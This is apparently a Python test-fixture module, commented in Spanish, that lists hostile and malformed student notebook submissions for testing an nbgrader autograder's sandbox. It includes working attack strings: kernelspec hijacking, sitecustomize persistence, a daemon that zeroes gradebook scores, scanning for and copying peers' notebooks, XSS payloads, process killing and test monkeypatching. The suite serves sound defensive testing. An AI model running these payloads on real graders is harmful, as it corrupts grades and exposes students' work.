"""Entregas hostiles y dañadas, cada una con el resultado que el calificador debe dar.

Todas usan la unidad red_xor (13 puntos: 11 automáticos y 2 de la pregunta escrita). Las
ejecuta tests/test_hostiles.py por la cadena real (nbgrader + verificación aislada, en paralelo)
junto a estudiantes honestos (que deben conservar su nota completa y sin banderas) y
``python -m autograder hostiles`` las muestra al instructor.

Varias entregas hacen algo solo en el kernel de nbgrader (``'ipykernel' in sys.modules``) o
solo en el proceso aislado: así se prueba cada lado por separado.
"""
from __future__ import annotations

import copy
import json

import nbformat

from .muestra import SOLUCION, Alumno, completo, fuente_de

UNIDAD = "red_xor"
FUNCIONES = ("feedForward", "costoGlobal", "backProp", "entrenarRed")
BIEN = {f: SOLUCION for f in FUNCIONES}
COMPLETO = completo(UNIDAD)
SIN_BACKPROP = {"prueba_feedForward": 2, "prueba_costoGlobal": 2}
CORREGIDA = "cuenta la verificación aislada"
REEJECUTADA = "el kernel de nbgrader no terminó la entrega"
TODO_MAL = {"feedForward": "feedForward__sin_sesgos", "costoGlobal": "costoGlobal__sin_1_m",
            "backProp": "backProp__signo", "entrenarRed": "entrenarRed__ascenso"}
# Plazo por celda y por llamada, y presupuesto de reloj de cada entrega en la suite (un tercio,
# 20 s, para la verificación aislada). Las entregas honestas tardan unos 5 s.
TIMEOUT = 10
PRESUPUESTO = 60


def _solo_en(lado: str, fuente: str) -> str:
    """``fuente`` se ejecuta solo en el kernel de nbgrader o solo en el proceso aislado."""
    condicion = "in" if lado == "kernel" else "not in"
    cuerpo = "\n".join("    " + l for l in fuente.splitlines())
    return f"import sys\nif 'ipykernel' {condicion} sys.modules:\n{cuerpo}"


def _envolver(funcion: str, antes: str) -> str:
    """Redefine ``funcion`` (ya definida por su celda) para que ejecute ``antes`` primero."""
    firma = {"feedForward": "X, w1, w2, b1, b2", "costoGlobal": "y_est, y",
             "backProp": "X, y, w1, w2, b1, b2, a2, a1",
             "entrenarRed": "epocas, lr, X, y, w1, b1, w2, b2, a1, a2"}[funcion]
    cuerpo = "\n".join("    " + l for l in antes.splitlines())
    return (f"_{funcion}_original = {funcion}\n\ndef {funcion}({firma}):\n{cuerpo}\n"
            f"    return _{funcion}_original({firma})")


# El proceso aislado escribe en cada descriptor abierto la cabecera de un mensaje de 4 KiB, un
# solo byte, y se duerme: el calificador no debe quedarse esperando el resto.
_MENSAJE_A_MEDIAS = """import os, struct, time
for fd in range(3, 64):
    try:
        os.write(fd, struct.pack('>Q', 4096) + b'x')
    except OSError:
        pass
time.sleep(10**6)"""

# Reescribe todo kernel.json que encuentre (el secuestro del kernelspec), deja un demonio que
# durante 10 minutos pone a 0 las notas de cualquier gradebook que vea, y prueba a instalar
# código que corra en cada Python futuro (sitecustomize).
_SECUESTRO = r"""import glob, json, os, sys
objetivos = set()
for patron in ['/tmp/**/kernel.json', '/var/tmp/**/kernel.json', '/usr/local/share/jupyter/**/kernel.json',
               os.path.join(sys.prefix, 'share', 'jupyter', '**', 'kernel.json'),
               os.path.expanduser('~/.local/share/jupyter/**/kernel.json')]:
    objetivos.update(glob.glob(patron, recursive=True))
for carpeta in os.environ.get('JUPYTER_PATH', '').split(os.pathsep) + [os.environ.get('CALIFICADOR_KERNELS', '')]:
    if carpeta:
        objetivos.update(glob.glob(os.path.join(carpeta, '**', 'kernel.json'), recursive=True))
demonio = '''import glob, os, sqlite3, time
for _ in range(1200):
    for db in glob.glob('/tmp/**/gradebook.db', recursive=True) + glob.glob('/work/**/gradebook.db', recursive=True):
        try:
            c = sqlite3.connect(db); c.execute('UPDATE grade SET auto_score = 0'); c.commit()
        except Exception:
            pass
    time.sleep(0.5)
'''
for ruta in objetivos:
    try:
        spec = json.load(open(ruta))
        spec['argv'] = [sys.executable, '-c', 'import subprocess, sys; subprocess.Popen([sys.executable, "-c", %r], start_new_session=True); import os; os.execv(sys.argv[1], sys.argv[1:])' % demonio] + spec['argv']
        json.dump(spec, open(ruta, 'w'))
    except Exception:
        pass
for sitio in [p for p in sys.path if p.endswith('site-packages')] + [os.path.dirname(os.__file__)]:
    try:
        open(os.path.join(sitio, 'sitecustomize.py'), 'a').write('import os  # secuestro')
    except OSError:
        pass
import subprocess
subprocess.Popen([sys.executable, '-c', demonio], start_new_session=True)"""

# Deja demonios (doble fork, sesión propia) que duermen diez minutos.
_DEMONIOS = """import os
pid = os.fork()
if pid == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv('/bin/sleep', ['sleep', '600'])
    os.execv('/bin/true', ['true'])
os.waitpid(pid, 0)"""

# Busca cuadernos de compañeros (descargas/, originales/, entregas/, submitted/...) y se queda
# con la primera definición de cada función que pase la prueba visible.
_COPIA_DE_COMPANEROS = r"""import glob, json, os
from course import red_xor as _xor
_vistos = set()
_raices = ['/']
_d = os.getcwd()
while _d != '/':
    _raices.append(_d)
    _d = os.path.dirname(_d)
for _raiz in _raices:
    for _ruta in glob.glob(os.path.join(_raiz, '**', '*.ipynb'), recursive=True):
        if _ruta in _vistos or len(_vistos) > 500:
            continue
        _vistos.add(_ruta)
        try:
            _celdas = json.load(open(_ruta))['cells']
        except Exception:
            continue
        for _c in _celdas:
            _fuente = ''.join(_c.get('source', ''))
            for _f in ('feedForward', 'costoGlobal', 'backProp', 'entrenarRed'):
                if _c.get('cell_type') == 'code' and f'def {_f}(' in _fuente and _f not in globals():
                    _espacio = dict(globals())
                    try:
                        exec(_fuente, _espacio)
                        getattr(_xor, 'probar_' + _f)(_espacio[_f])
                        globals()[_f] = _espacio[_f]
                    except BaseException:
                        pass"""

# Una feedForward correcta que, solo en el kernel de nbgrader, lo mata: una celda que solo
# define funciones, así que hace falta la última ejecución de respaldo.
_FEEDFORWARD_QUE_MATA_AL_KERNEL = """def feedForward(X, w1, w2, b1, b2):
    import os, sys
    if 'ipykernel' in sys.modules:
        os._exit(1)
    a1 = sigmoide(w1 @ X + b1)
    a2 = sigmoide(w2 @ a1 + b2)
    return a1, a2"""

_RUTAS_COMPARTIDAS = ("/tmp/xor_de_otro.py", "/var/tmp/xor_de_otro.py", "/dev/shm/xor_de_otro.py",
                      "/home/estudiante/xor_de_otro.py")


def _copiar_a_tmp() -> str:
    """Escribe una solución completa donde otro estudiante podría leerla."""
    codigo = "\n\n".join(fuente_de(UNIDAD, f, SOLUCION) for f in FUNCIONES)
    return (f"import os\ncodigo = {codigo!r}\nfor ruta in {_RUTAS_COMPARTIDAS!r}:\n"
            "    try:\n        open(ruta, 'w').write(codigo)\n        os.chmod(ruta, 0o666)\n"
            "    except OSError:\n        pass")


_LEER_DE_TMP = (f"import numpy as np\nfor ruta in {_RUTAS_COMPARTIDAS!r}:\n"
                "    try:\n        exec(open(ruta).read())\n    except OSError:\n        pass")


def _tras(fuente: str, despues_de: str = "prueba_feedForward") -> tuple:
    return ((despues_de, fuente),)


def _celda(nb, grade_id):
    return next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)


def _borrar(grade_id):
    def manipular(nb):
        nb.cells.remove(_celda(nb, grade_id))
    return manipular


def _editar(grade_id, fuente):
    def manipular(nb):
        _celda(nb, grade_id).source = fuente
    return manipular


def _duplicar(grade_id):
    def manipular(nb):
        celda = _celda(nb, grade_id)
        nb.cells.insert(nb.cells.index(celda) + 1, copy.deepcopy(celda))
    return manipular


def _renombrar(grade_id, nuevo):
    def manipular(nb):
        _celda(nb, grade_id).metadata.nbgrader.grade_id = nuevo
    return manipular


def _a_markdown(grade_id):
    def manipular(nb):
        celda = _celda(nb, grade_id)
        nb.cells[nb.cells.index(celda)] = nbformat.v4.new_markdown_cell(
            celda.source, metadata=celda.metadata)
    return manipular


def _a_nbformat(version):
    def manipular(nb):
        return nbformat.writes(nbformat.convert(nb, version))
    return manipular


def _declarar_nbformat(version):
    def manipular(nb):
        datos = json.loads(nbformat.writes(nb))
        datos["nbformat"] = version
        return json.dumps(datos)
    return manipular


def _sin_celdas(nb):
    nb.cells = []


def _salida_guardada_enorme(nb):
    celda = nbformat.v4.new_code_cell("print('hola')")
    celda.outputs = [nbformat.v4.new_output("stream", name="stdout", text="x" * 20_000_000)]
    nb.cells.append(celda)


def _otra_unidad(nb):
    # Las celdas de otra unidad: mismos tipos de metadatos, otros grade_id.
    for celda in nb.cells:
        meta = celda.metadata.get("nbgrader")
        if meta:
            meta["grade_id"] = "otra_" + meta["grade_id"]


CASOS = [
    # --- trampas contra las pruebas ---------------------------------------------------------
    Alumno("monkeypatch_allclose", "backProp mal y np.allclose/np.isclose siempre verdaderos",
           respuestas={**BIEN, "backProp": "backProp__derivada_sobre_a"},
           celdas_extra=_tras("import numpy as np\nnp.allclose = lambda *a, **k: True\n"
                              "np.isclose = lambda a, b, **k: np.ones(np.shape(a), bool)",
                              "configuracion"),
           notas=SIN_BACKPROP, banderas=("monkeypatching",)),
    Alumno("eq_tramposo", "devuelve objetos cuyo __eq__ siempre es verdadero",
           respuestas={**BIEN},
           celdas_extra=_tras("class Todo:\n    def __eq__(self, otro):\n        return True\n"
                              "    def __array__(self, dtype=None, copy=None):\n"
                              "        import numpy as np\n        return np.zeros((4, 4))\n"
                              "def feedForward(X, w1, w2, b1, b2):\n    return Todo(), Todo()",
                              "feedForward"),
           notas={"prueba_costoGlobal": 2, "prueba_backProp": 4},  # entrenarRed usa feedForward
           banderas=("__eq__",)),
    Alumno("importa_solucion", "deja los esbozos y copia la solución del calificador",
           celdas_extra=tuple((f, "from solutions.red_xor import *") for f in FUNCIONES),
           banderas=("importa `solutions",)),
    Alumno("reemplaza_pruebas", "funciones mal y redefine las pruebas visibles para que pasen",
           respuestas={f: "feedForward__sin_sesgos" if f == "feedForward" else SOLUCION
                       for f in FUNCIONES},
           celdas_extra=_tras("probar_feedForward = lambda f: None", "feedForward"),
           notas={k: v for k, v in COMPLETO.items()
                  if k not in ("prueba_feedForward", "prueba_entrenarRed")},
           banderas=("redefine `probar_feedForward`",)),
    Alumno("builtins_isinstance", "funciones mal y builtins.isinstance siempre verdadero",
           respuestas={**BIEN, "costoGlobal": "costoGlobal__arreglo"},
           celdas_extra=_tras("import builtins\nbuiltins.isinstance = lambda *a: True",
                              "configuracion"),
           notas={"prueba_feedForward": 2, "prueba_backProp": 4},  # entrenarRed usa costoGlobal
           banderas=("monkeypatching",)),
    Alumno("sabotea_ocultas", "todo bien, pero rompe el módulo de pruebas ocultas en el kernel",
           respuestas=BIEN,
           celdas_extra=_tras("import sys, types\nsys.modules['autograder.unidades.red_xor."
                              "ocultas'] = types.ModuleType('x')", "configuracion"),
           notas=COMPLETO, banderas=("sys.modules", CORREGIDA)),
    # --- celdas de prueba manipuladas -------------------------------------------------------
    Alumno("borra_prueba", "todo bien y borra la celda prueba_backProp", respuestas=BIEN,
           manipular=_borrar("prueba_backProp"), notas=COMPLETO,
           banderas=("faltaban celdas de prueba",)),
    Alumno("edita_prueba", "backProp mal y vacía su celda de prueba",
           respuestas={**BIEN, "backProp": "backProp__signo"},
           manipular=_editar("prueba_backProp", "pass"), notas=SIN_BACKPROP,
           banderas=("celdas de prueba modificadas",)),
    Alumno("duplica_prueba", "todo bien y duplica una celda de prueba", respuestas=BIEN,
           manipular=_duplicar("prueba_feedForward"), notas=COMPLETO,
           banderas=("celdas duplicadas",)),
    Alumno("renombra_prueba", "todo bien y renombra el grade_id de una prueba", respuestas=BIEN,
           manipular=_renombrar("prueba_costoGlobal", "mi_prueba"), notas=COMPLETO,
           banderas=("mi_prueba",)),
    Alumno("prueba_a_markdown", "todo bien y convierte una celda de prueba en texto",
           respuestas=BIEN, manipular=_a_markdown("prueba_entrenarRed"), notas=COMPLETO,
           banderas=("faltaban celdas de prueba",)),
    Alumno("otra_unidad", "entrega un cuaderno de otra unidad", manipular=_otra_unidad,
           banderas=("otra unidad",)),
    Alumno("sin_celdas", "cuaderno válido sin ninguna celda", manipular=_sin_celdas,
           banderas=("ninguna celda",)),
    # --- archivos dañados o de otro formato -------------------------------------------------
    Alumno("json_invalido", "JSON cortado a la mitad", archivo_crudo='{"cells": [{"cell_',
           estado="ilegible"),
    Alumno("archivo_vacio", "archivo de 0 bytes", archivo_crudo="", estado="ilegible"),
    Alumno("binario", "una imagen PNG renombrada a .ipynb",
           archivo_crudo=b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)),
           estado="ilegible"),
    Alumno("json_no_cuaderno", "JSON válido que no es un cuaderno",
           archivo_crudo='{"nombre": "ana", "nota": 5}', estado="ilegible"),
    Alumno("nbformat_3", "todo bien, guardado en nbformat 3", respuestas=BIEN,
           manipular=_a_nbformat(3), notas=COMPLETO, banderas=("nbformat 3",)),
    Alumno("nbformat_5", "declara un nbformat 5 inexistente", respuestas=BIEN,
           manipular=_declarar_nbformat(5), estado="ilegible"),
    Alumno("salida_guardada_enorme", "todo bien con 20 MB de salida guardada",
           respuestas=BIEN, manipular=_salida_guardada_enorme, notas=COMPLETO),
    Alumno("salida_enorme", "todo bien y una celda que imprime 50 MB", respuestas=BIEN,
           celdas_extra=_tras("print('x' * 50_000_000)"), notas=COMPLETO),
    # --- procesos, recursos y sistema de archivos -------------------------------------------
    Alumno("bucle_infinito", "todo bien y una celda con un bucle infinito", respuestas=BIEN,
           celdas_extra=_tras("while True:\n    pass"), notas=COMPLETO,
           banderas=("celdas desactivadas",)),
    Alumno("bomba_memoria", "todo bien y una celda que pide memoria sin fin", respuestas=BIEN,
           celdas_extra=_tras("def bomba():\n    bloques = []\n    while True:\n"
                              "        bloques.append(np.ones(10**7))\nbomba()"),
           notas=COMPLETO),
    Alumno("os_exit", "todo bien y os._exit en una celda", respuestas=BIEN,
           celdas_extra=_tras("import os\nos._exit(1)"), notas=COMPLETO,
           banderas=("os._exit", "celdas desactivadas")),
    Alumno("sys_exit", "todo bien y sys.exit en una celda", respuestas=BIEN,
           celdas_extra=_tras("import sys\nsys.exit(0)"), notas=COMPLETO,
           banderas=("sys.exit",)),
    Alumno("segfault", "todo bien y una celda que rompe el intérprete con ctypes",
           respuestas=BIEN, celdas_extra=_tras("import ctypes\nctypes.string_at(0)"),
           notas=COMPLETO, banderas=("ctypes", "celdas desactivadas")),
    Alumno("mata_al_padre", "todo bien e intenta matar al proceso calificador", respuestas=BIEN,
           celdas_extra=_tras("import os, signal\nos.kill(os.getppid(), signal.SIGKILL)"),
           notas=COMPLETO, banderas=("os.kill",)),
    Alumno("escribe_fuera", "todo bien e intenta sobrescribir la solución de referencia",
           respuestas=BIEN,
           celdas_extra=_tras("import solutions.red_xor as s\n"
                              "open(s.__file__, 'w').write('def feedForward(*a): pass')"),
           notas=COMPLETO, banderas=("importa `solutions",)),
    Alumno("lee_otros", "todo bien e intenta leer las entregas de otros", respuestas=BIEN,
           celdas_extra=_tras("import os\nprint(os.listdir('../..'))\n"
                              "print(open('../../ana_garcia/red_xor/red_xor.ipynb').read())"),
           notas=COMPLETO, banderas=("../..",)),
    Alumno("lee_gradebook", "todo bien e intenta leer el gradebook", respuestas=BIEN,
           celdas_extra=_tras("datos = open('../../../gradebook.db', 'rb').read()\n"
                              "print(len(datos))"),
           notas=COMPLETO, banderas=("gradebook",)),
    Alumno("usa_la_red", "todo bien e intenta descargar algo", respuestas=BIEN,
           celdas_extra=_tras("import urllib.request\n"
                              "urllib.request.urlopen('http://example.com', timeout=3)"),
           notas=COMPLETO, banderas=("urllib",)),
    # --- lo que ve y lo que deja el código del estudiante (issues de seguridad) -------------
    Alumno("secuestra_kernelspec", "todo mal; reescribe los kernelspec, deja un demonio que "
           "pone a 0 los gradebooks y prueba a instalar sitecustomize",
           respuestas=TODO_MAL, celdas_extra=_tras(_SECUESTRO, "configuracion"),
           banderas=("importa `subprocess`",)),
    Alumno("secuestra_desde_el_aislado", "todo mal; lo mismo, desde el proceso aislado",
           respuestas=TODO_MAL, celdas_extra=_tras(_solo_en("aislado", _SECUESTRO),
                                                   "configuracion"),
           banderas=("importa `subprocess`",)),
    Alumno("deja_demonios", "todo bien; deja demonios en el kernel y en el proceso aislado",
           respuestas=BIEN, celdas_extra=_tras(_DEMONIOS), notas=COMPLETO,
           banderas=("crea procesos",)),
    Alumno("mensaje_a_medias", "todo bien; en el proceso aislado anuncia 4 KiB, escribe 1 byte "
           "y se duerme", respuestas=BIEN,
           celdas_extra=_tras(_solo_en("aislado", _MENSAJE_A_MEDIAS)), notas=COMPLETO,
           banderas=("celdas desactivadas",)),
    Alumno("mensaje_a_medias_en_funcion", "feedForward hace lo mismo al llamarla (solo en el "
           "proceso aislado)", respuestas=BIEN,
           celdas_extra=_tras(_envolver("feedForward", _solo_en("aislado", _MENSAJE_A_MEDIAS)),
                              "feedForward"),
           notas={"prueba_costoGlobal": 2, "prueba_backProp": 4},  # entrenarRed usa feedForward
           banderas=("mensaje a medias",)),
    # feedForward se llama 5 veces en sus pruebas: 5 × 9 s > 20 s, y cada llamada cabe en 10 s.
    Alumno("duerme_en_cada_llamada", "todo bien, pero cada llamada duerme 9 s en el proceso "
           "aislado: se acaba el presupuesto de la verificación", respuestas=BIEN,
           celdas_extra=tuple((f, _envolver(f, _solo_en("aislado", "import time\n"
                                                         "time.sleep(9)")))
                              for f in FUNCIONES),
           banderas=("superó el presupuesto de tiempo de la verificación",)),
    Alumno("kernel_muere_despues", "todo bien; una celda posterior mata solo al kernel de "
           "nbgrader", respuestas=BIEN,
           celdas_extra=_tras(_solo_en("kernel", "import os\nos._exit(1)"),
                              "prueba_costoGlobal"),
           notas=COMPLETO, banderas=(REEJECUTADA, "solo con las celdas que definen funciones")),
    Alumno("kernel_muere_en_funcion", "todo bien; feedForward mata al kernel de nbgrader (no al "
           "proceso aislado)", respuestas={f: SOLUCION for f in FUNCIONES if f != "feedForward"},
           celdas_extra=_tras(_FEEDFORWARD_QUE_MATA_AL_KERNEL, "feedForward"),
           notas=COMPLETO, banderas=(REEJECUTADA, "sin el código del estudiante")),
    Alumno("kernel_ignora_interrupcion", "todo bien; en el kernel ignora SIGINT y no termina "
           "nunca", respuestas=BIEN,
           celdas_extra=_tras(_solo_en("kernel", "import signal\n"
                                       "signal.signal(signal.SIGINT, signal.SIG_IGN)\n"
                                       "while True:\n    pass")),
           notas=COMPLETO, banderas=(REEJECUTADA,)),
    Alumno("copia_a_tmp", "todo bien; deja una solución completa en /tmp, /var/tmp, /dev/shm",
           respuestas=BIEN, celdas_extra=_tras(_copiar_a_tmp(), "configuracion"),
           notas=COMPLETO),
    Alumno("lee_de_tmp", "sin código propio: usa lo que otro haya dejado en /tmp",
           celdas_extra=_tras(_LEER_DE_TMP, "configuracion"), banderas=("exec",)),
    Alumno("html_malicioso", "todo bien; su salida y su respuesta escrita llevan <script> para "
           "el navegador del instructor", respuestas=BIEN,
           escritas={"pregunta_capa_oculta": "<script>alert('xss-respuesta')</script>La capa "
                     "oculta crea variables en las que XOR sí es separable."},
           celdas_extra=_tras(_solo_en("kernel", "from IPython.display import HTML, display\n"
                                       "display(HTML(\"<script>alert('xss-salida')</script>"
                                       "<b>hola</b>\"))")),
           notas=COMPLETO),
    Alumno("copia_de_companeros", "sin código propio: carga los cuadernos de sus compañeros "
           "(descargas/, originales/, entregas/) y se queda con lo que pasa la prueba visible",
           celdas_extra=_tras(_COPIA_DE_COMPANEROS, "configuracion"),
           banderas=("exec",)),
]

# Estudiantes honestos de la misma clase: se califican después de los casos (orden alfabético)
# y deben conservar su nota completa sin banderas.
HONESTOS = [Alumno(nombre, "todo bien", respuestas=BIEN, notas=COMPLETO)
            for nombre in ("ana_garcia", "victima_1", "victima_2", "victima_3")]


def ejecutar(raiz, *, trabajadores: int = 2, timeout: int = TIMEOUT, casos=None,
             presupuesto: float = PRESUPUESTO) -> tuple[dict, dict]:
    """Califica los casos y los honestos en un curso nuevo en ``raiz``, con las entregas también
    en descargas/ (como las deja el LMS). Devuelve ({nombre: fila de notas}, {nombre: Estado})."""
    import shutil

    from . import muestra
    from .lote import calificar

    curso = muestra.montar_clase(raiz, {UNIDAD: list(casos or CASOS) + HONESTOS},
                                 timeout=timeout, presupuesto=presupuesto)
    shutil.copytree(curso.raiz / "entregas", curso.raiz / "descargas")
    estados = {e.alumno: e for e in calificar(curso, [UNIDAD], trabajadores=trabajadores)}
    _, filas = curso.notas(UNIDAD)
    return {f["alumno"]: f for f in filas}, estados
